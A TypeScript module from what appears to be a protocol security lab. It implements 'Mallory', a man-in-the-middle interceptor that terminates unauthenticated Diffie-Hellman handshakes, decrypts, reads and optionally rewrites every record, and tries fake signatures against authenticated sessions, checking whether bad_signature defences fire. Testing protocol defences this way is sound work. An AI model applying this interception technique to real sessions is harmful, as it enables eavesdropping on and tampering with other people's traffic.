// Mallory in the middle of an UNAUTHENTICATED session (the `--insecure-dh` control mode): she runs
// the real kds handshake twice, as the KDC towards the victim and as the victim towards the KDC, with
// her own DH key on each side. Nothing in the insecure handshake lets either end notice: no
// certificate, no signature, and the Finished MACs only prove each end shares a key with *someone*.
//
//   victim --client_hello-->  Mallory (ServerHandshake)   --server_hello (Mallory's share)--> victim
//   victim --client_finish--> Mallory                      (victim-side session: victim <-> Mallory)
//   Mallory (ClientHandshake, claiming the victim's name) <--> KDC    (KDC-side session: Mallory <-> KDC)
//   every record: open with one session's keys, read, optionally rewrite, seal with the other's.
//
// This is the classic man-in-the-middle against unauthenticated Diffie-Hellman, built only from the
// protocol's own state machines (shared/protocol/handshake.ts, secure-channel.ts).
//
// Against an AUTHENTICATED client she tries the same with the real certificates (substitute-dh): the
// victim gets a server_hello with her DH share, the KDC's own certificate and a signature she cannot
// make (random bytes); the KDC gets her client_hello, and then a client_finish with the victim's
// certificate and, again, a signature she cannot make. She computes every Finished MAC herself (she
// holds both DH secrets). Only ends that do not verify the transcript signature (the MITM lab's
// transcript-signature switch) let her through; everyone else refuses with bad_signature.
import { isDhGroup, type DhGroup } from '../../shared/crypto/dh.js';
import { KdsError, ProtocolError, closeCodeFor, isErrorCode } from '../../shared/errors.js';
import { ClientHandshake, ServerHandshake } from '../../shared/protocol/handshake.js';
import { decodeFrame } from '../../shared/protocol/messages.js';
import type {
  ClientChannel,
  ClientRequest,
  ServerChannel,
  ServerMessage,
} from '../../shared/protocol/secure-channel.js';
import type { Link } from './link.js';
import { randomBytes } from '../../shared/crypto/random.js';
import { asPssSigner } from '../../shared/crypto/signer.js';
import { defenceForCode, WIRE } from '../../shared/defences.js';

/** What an RSA-2048 signature looks like on the wire: Mallory's stand-in for signatures she cannot make. */
const FAKE_SIGNATURE_BYTES = 256;
// Tagged PSS because it stands where the victim's PSS signer would; the peer's verification refuses it.
const fakeSign = asPssSigner(() => Promise.resolve(randomBytes(FAKE_SIGNATURE_BYTES)));

export interface InterceptHooks {
  /** Both sessions are up: Mallory holds the keys of each. */
  established?(): void;
  /** A decrypted request on its way to the KDC; return a replacement to rewrite it. */
  request?(req: ClientRequest): ClientRequest | void | Promise<ClientRequest | void>;
  /** A decrypted response or push on its way to the victim; return a replacement to rewrite it. */
  response?(msg: ServerMessage): ServerMessage | void | Promise<ServerMessage | void>;
}

export class Interceptor {
  readonly #link: Link;
  readonly #hooks: InterceptHooks;
  #group: DhGroup | undefined;
  #victimSide: ServerHandshake | undefined;
  #kdcSide: ClientHandshake | undefined;
  #victimChannel: ServerChannel | undefined;
  #kdcChannel: ClientChannel | undefined;
  #pending: ClientRequest[] = [];
  #established = false;
  /** Authenticated victims: its client_hello (answered once the KDC's certificate is known). */
  #authHello: Buffer | undefined;
  /** Authenticated victims: the KDC's server_hello, answered once the victim's certificate is known. */
  #kdcHello: Buffer | undefined;
  #victimCert: Buffer | undefined;
  #awaitingKdc = false;

  constructor(link: Link, hooks: InterceptHooks = {}) {
    this.#link = link;
    this.#hooks = hooks;
  }

  get established(): boolean {
    return this.#established;
  }

  /** The victim's frames: Mallory answers the handshake herself, then re-encrypts its requests. */
  async fromClient(frame: Buffer): Promise<void> {
    const link = this.#link;
    if (this.#victimChannel === undefined) {
      const f = decodeFrame(frame);
      if (f.t === 'client_hello' && f.mode === 'auth' && isDhGroup(f.group))
        return this.#authHelloFrom(frame, f.group);
      if (f.t === 'client_finish' && this.#authHello !== undefined && this.#victimSide !== undefined)
        return this.#authFinishFrom(frame);
      if (f.t === 'client_hello') {
        if (f.mode !== 'insecure' || !isDhGroup(f.group))
          throw new ProtocolError('unexpected_message', 'the interceptor needs an insecure or auth client');
        this.#group = f.group;
        this.#victimSide = new ServerHandshake({
          groups: [f.group],
          allowInsecure: true,
          allowEnroll: false,
          // Never used: an insecure server_hello carries no certificate and no signature.
          credentials: {
            certificateDer: Buffer.alloc(0),
            sign: asPssSigner(() => Promise.reject(new Error('unused'))),
          },
          checkClientCertificate: () => {},
        });
        const serverHello = await this.#victimSide.receiveClientHello(frame);
        link.note('client', frame, 'terminate', 'kept by Mallory: she plays the KDC');
        link.toClient(serverHello, 'inject', "Mallory's own server_hello: her DH share, nothing to verify");
        return;
      }
      if (f.t === 'client_finish' && this.#victimSide !== undefined) {
        const result = await this.#victimSide.receiveClientFinish(frame);
        this.#victimChannel = result.channel;
        link.note(
          'client',
          frame,
          'terminate',
          `session 1 (victim <-> Mallory) established; the victim claims to be ${result.claimedName ?? '?'}`,
        );
        this.#kdcSide = new ClientHandshake({
          mode: 'insecure',
          groups: [this.#group!],
          group: this.#group!,
          ...(result.claimedName === undefined ? {} : { name: result.claimedName }),
        });
        link.toServer(
          this.#kdcSide.clientHello(),
          'inject',
          `Mallory's client_hello to the KDC, as ${result.claimedName ?? 'nobody'}`,
        );
        return;
      }
      link.note('client', frame, 'drop', 'unexpected before the session');
      return;
    }
    let req: ClientRequest;
    try {
      req = this.#victimChannel.open(frame);
    } catch (err) {
      link.note('client', frame, 'drop', `undecryptable (${err instanceof KdsError ? err.code : 'error'})`);
      link.closeClient(1000, '');
      link.closeServer(1000, '');
      return;
    }
    link.ctx.loot.inspectRequest(link.id, link.victimName ?? '?', req);
    const out = (await this.#hooks.request?.(req)) ?? req;
    if (this.#kdcChannel === undefined) {
      this.#pending.push(out);
      return;
    }
    this.#sendRequest(out, out !== req);
  }

  /** The KDC's frames: Mallory completes her own handshake, then re-encrypts responses and pushes. */
  async fromServer(frame: Buffer): Promise<void> {
    const link = this.#link;
    if (this.#kdcChannel === undefined) {
      const f = decodeFrame(frame);
      if (f.t === 'alert') {
        // The KDC refused Mallory's handshake (e.g. it does not allow insecure sessions): tell the
        // victim the same way the KDC would after keys exist, with the code as the close reason.
        link.note('server', frame, 'terminate', `the KDC refused Mallory (${f.code})`);
        const code = isErrorCode(f.code) ? f.code : 'internal';
        link.closeClient(closeCodeFor(code), code);
        link.closeServer(1000, '');
        return;
      }
      if (this.#kdcSide === undefined)
        throw new ProtocolError('unexpected_message', 'server frame before Mallory spoke');
      if (this.#authHello !== undefined) return this.#kdcHelloFrom(frame);
      const { clientFinish, result } = await this.#kdcSide.receiveServerHello(frame);
      this.#kdcChannel = result.channel;
      link.ctx.terminatedInsecure = true;
      link.note(
        'server',
        frame,
        'terminate',
        'session 2 (Mallory <-> KDC): the KDC cannot tell Mallory from the victim',
      );
      link.toServer(
        clientFinish,
        'inject',
        "Mallory's client_finish (a valid MAC: she knows this session's DH secret)",
      );
      link.info(
        'Mallory holds the keys of both sessions: every record is now decrypted, read and re-encrypted',
      );
      this.#established = true;
      link.ctx.watch?.intercepted(link);
      this.#hooks.established?.();
      for (const req of this.#pending.splice(0)) this.#sendRequest(req, false);
      return;
    }
    if (this.#awaitingKdc) {
      // The KDC's answer to Mallory's client_finish: an alert is its refusal (bad_signature).
      let alert: { code: string } | undefined;
      try {
        const f = decodeFrame(frame);
        if (f.t === 'alert') alert = f;
      } catch {
        // a record: handled below
      }
      if (alert !== undefined) {
        const d = defenceForCode(alert.code, WIRE);
        link.note('server', frame, 'terminate', `the KDC refused Mallory's client_finish (${alert.code})`);
        if (d !== undefined) link.fail(d.defence, "the KDC refused Mallory's client_finish", alert.code);
        else link.inconclusive(`the KDC ended Mallory's handshake with ${alert.code}`);
        link.closeClient(1000, '');
        link.closeServer(1000, '');
        return;
      }
    }
    let msg: ServerMessage;
    try {
      msg = this.#kdcChannel.open(frame);
    } catch (err) {
      link.note('server', frame, 'drop', `undecryptable (${err instanceof KdsError ? err.code : 'error'})`);
      link.closeClient(1000, '');
      link.closeServer(1000, '');
      return;
    }
    if (this.#awaitingKdc) {
      this.#awaitingKdc = false;
      link.ctx.terminatedInsecure = true;
      this.#established = true;
      link.info(
        "the KDC took Mallory's client_finish: she holds the keys of both sessions, every record is decrypted",
      );
      link.ctx.watch?.intercepted(link);
      this.#hooks.established?.();
    }
    link.ctx.loot.inspectServerMessage(link.id, link.victimName ?? '?', msg);
    const out = (await this.#hooks.response?.(msg)) ?? msg;
    const victim = this.#victimChannel!;
    let sealed: Buffer;
    let what: string;
    if (out.kind === 'ok') {
      sealed = victim.sealOk(out.type, out.id, out.body);
      what = `${out.type} ok #${out.id}`;
    } else if (out.kind === 'error') {
      sealed = victim.sealError(out.id, out.error.code, out.error.message);
      what = `${out.type} error ${out.error.code} #${out.id}`;
    } else {
      sealed = victim.sealPush(out.type, out.body);
      what = `push ${out.type}`;
    }
    link.toClient(sealed, 're-encrypt', `${what}${out !== msg ? ' (REWRITTEN by Mallory)' : ''}`);
  }

  /** Authenticated victim, step 1: keep its hello, open Mallory's own auth handshake to the KDC. */
  #authHelloFrom(frame: Buffer, group: DhGroup): void {
    const link = this.#link;
    this.#group = group;
    this.#authHello = frame;
    const victimCert = (): Buffer => this.#victimCert ?? Buffer.alloc(0);
    this.#kdcSide = new ClientHandshake({
      mode: 'auth',
      groups: [group],
      group,
      // The victim's certificate, known once its client_finish arrives (the KDC's hello waits for it).
      credentials: {
        get certificateDer(): Buffer {
          return victimCert();
        },
        sign: fakeSign,
      },
      // She does not care who the KDC is.
      checkServerCertificate: () => {},
    });
    link.note('client', frame, 'terminate', 'kept by Mallory: she plays the KDC with its own certificate');
    link.toServer(this.#kdcSide.clientHello(), 'inject', "Mallory's client_hello to the KDC: her DH share");
  }

  /** Authenticated victim, step 2: the KDC's hello gives its certificate; answer the victim with it. */
  async #kdcHelloFrom(frame: Buffer): Promise<void> {
    const link = this.#link;
    if (this.#kdcHello !== undefined) {
      link.note('server', frame, 'drop', 'unexpected before the session');
      return;
    }
    const f = decodeFrame(frame);
    if (f.t !== 'server_hello' || f.cert === undefined)
      throw new ProtocolError('unexpected_message', 'expected the KDC server_hello');
    this.#kdcHello = frame;
    link.note('server', frame, 'terminate', "kept by Mallory: the KDC's certificate is what she needs");
    this.#victimSide = new ServerHandshake({
      groups: [this.#group!],
      allowInsecure: false,
      allowEnroll: false,
      credentials: { certificateDer: Buffer.from(f.cert), sign: fakeSign },
      checkClientCertificate: () => {},
    });
    const serverHello = await this.#victimSide.receiveClientHello(this.#authHello!);
    link.toClient(
      serverHello,
      'inject',
      "Mallory's server_hello: her DH share, the KDC's certificate, a signature she cannot make",
    );
    link.expect({
      defence: 'transcript signature',
      toward: 'client',
      codes: ['bad_signature'],
      what: "substituted the DH shares of a secure session under the KDC's certificate",
    });
  }

  /** Authenticated victim, step 3: finish both handshakes; the KDC gets the victim's certificate. */
  async #authFinishFrom(frame: Buffer): Promise<void> {
    const link = this.#link;
    const result = await this.#victimSide!.receiveClientFinish(frame);
    this.#victimChannel = result.channel;
    this.#victimCert = result.clientCertificate?.der;
    link.note('client', frame, 'terminate', 'session 1 (victim <-> Mallory): the victim took her signature');
    const { clientFinish, result: kdc } = await this.#kdcSide!.receiveServerHello(this.#kdcHello!);
    this.#kdcChannel = kdc.channel;
    link.toServer(
      clientFinish,
      'inject',
      "Mallory's client_finish: the victim's certificate, a signature she cannot make, her own MAC",
    );
    // Established only once the KDC's first record opens: a KDC that verifies signatures refuses first.
    this.#awaitingKdc = true;
  }

  #sendRequest(req: ClientRequest, rewritten: boolean): void {
    const sealed = this.#kdcChannel!.sealRequest(req.type, req.id, req.body);
    this.#link.toServer(
      sealed,
      're-encrypt',
      `${req.type} #${req.id}${rewritten ? ' (REWRITTEN by Mallory)' : ''}`,
    );
  }
}
